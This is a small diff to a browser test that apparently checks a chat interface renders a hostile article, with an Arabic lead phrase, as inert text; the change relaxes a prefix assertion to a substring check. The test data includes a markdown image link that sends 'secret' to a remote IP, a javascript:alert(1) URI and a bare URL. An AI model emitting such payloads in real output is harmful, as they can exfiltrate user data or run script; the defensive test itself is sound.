@@ -98,7 +98,7 @@ def test_hostile_article_streams_and_shows_as_text(browser, hostile_chat):
     message.locator(".inline-text").first.wait_for()
     page.wait_for_timeout(1000)
     content = answer_text(message)
-    assert content.startswith("وفقًا للمصادر")
+    assert "وفقًا للمصادر" in content
     for literal in ("![x](http://203.0.113.9/leak?q=secret)", "javascript:alert(1)", "http://203.0.113.9/bare"):
         assert literal in content, content
     cards = [visible(card) for card in message.locator(".inline-text").all_inner_texts()]
